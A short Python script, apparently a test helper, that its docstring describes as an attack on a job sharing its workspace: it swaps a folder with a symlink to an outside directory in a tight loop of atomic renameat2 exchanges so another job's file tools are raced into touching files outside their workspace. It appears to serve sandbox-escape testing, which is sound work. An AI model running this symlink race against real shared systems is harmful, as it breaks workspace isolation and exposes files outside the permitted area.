"""Swaps the folder `dir` of the current directory (a job's workspace) with `swap`, a symlink to the
directory OUTSIDE, back and forth in a tight loop until the file STOP exists: the attack of a job that
shares its workspace with another whose file tools go through `dir`. Each swap is one atomic
renameat2(RENAME_EXCHANGE), so `dir` is always either the real folder or the symlink; the loop stops
after an even number of swaps (the real folder is `dir` again) and prints how many it made. READY is
created once the loop is about to start.

Usage: swap_folder.py OUTSIDE READY STOP
"""

import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2


def main():
    outside, ready, stop = sys.argv[1:4]
    libc = ctypes.CDLL(None, use_errno=True)
    os.symlink(outside, "swap")
    open(ready, "w").close()
    swaps = 0
    while not os.path.exists(stop):
        for _ in range(100):
            if libc.renameat2(AT_FDCWD, b"dir", AT_FDCWD, b"swap", RENAME_EXCHANGE) != 0:
                error = ctypes.get_errno()
                raise OSError(error, os.strerror(error), "renameat2")
            swaps += 1
    print(swaps)


if __name__ == "__main__":
    main()
